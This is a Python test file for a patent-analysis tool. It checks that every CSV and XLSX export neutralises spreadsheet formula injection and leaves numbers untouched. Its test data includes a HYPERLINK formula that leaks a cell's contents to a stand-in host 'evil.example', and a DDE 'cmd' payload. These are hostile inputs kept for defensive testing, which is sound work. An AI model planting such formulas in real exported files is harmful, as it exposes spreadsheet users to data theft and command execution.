"""Every CSV and XLSX the project writes neutralises text that a spreadsheet would run as a
formula (OWASP CSV injection), and leaves numbers alone."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook
from rich.console import Console

from patentreach.cli.output import render
from patentreach.indicators.result_files import to_csv_text, write_result
from patentreach.indicators.results import IndicatorResult
from patentreach.model.spreadsheet_cells import is_dangerous, neutralise, neutralise_frame
from patentreach.survey.output import write_estimates

EVIL = '=HYPERLINK("http://evil.example/x?leak="&A1,"click me")'


@pytest.mark.parametrize("text", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_is_quoted(text):
    assert is_dangerous(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["ACME CORP", "-12", "+3.5", "-0.25%", "", 42, -3.2, None, "1e-5"])
def test_numbers_and_plain_text_are_unchanged(value):
    assert neutralise(value) == value


def _result() -> IndicatorResult:
    return IndicatorResult(
        definition={"label": "grants abroad", "note": "=1+1"},
        columns=["entity_name", "count", "yoy_pct"],
        rows=[
            {"entity_name": EVIL, "count": 3.0, "yoy_pct": -12.5},
            {"entity_name": "BOSCH", "count": 1, "yoy_pct": None},
        ],
    )


def test_indicator_xlsx_has_no_formula_cells(tmp_path):
    path = write_result(_result(), "xlsx", tmp_path / "r.xlsx")
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert book["rows"]["A2"].value == "'" + EVIL
    assert book["rows"]["B2"].value == 3 and book["rows"]["C2"].value == -12.5  # numbers stay numbers


def test_indicator_csv_has_neutralised_text():
    text = to_csv_text(_result())
    rows = list(csv.reader(line for line in io.StringIO(text) if not line.startswith("#")))
    assert rows[1] == ["'" + EVIL, "3.0", "-12.5"]


def test_listing_csv_is_neutralised():
    out = io.StringIO()
    render(["name", "n"], [("@cmd", -1)], "csv", Console(file=out))
    assert out.getvalue().splitlines() == ["name,n", "'@cmd,-1"]


def test_survey_estimates_xlsx_and_csv_are_neutralised(tmp_path):
    table = pd.DataFrame({"domain": [EVIL, "large"], "estimate": [0.38, -0.1]})
    book = load_workbook(write_estimates(table, tmp_path / "e.xlsx"))
    assert book.active["A2"].value == "'" + EVIL and book.active["A2"].data_type != "f"
    assert book.active["B3"].value == -0.1
    text = write_estimates(table, tmp_path / "e.csv").read_text()
    assert text.splitlines()[1].startswith('"\'=HYPERLINK(')
    assert list(neutralise_frame(table)["estimate"]) == [0.38, -0.1]
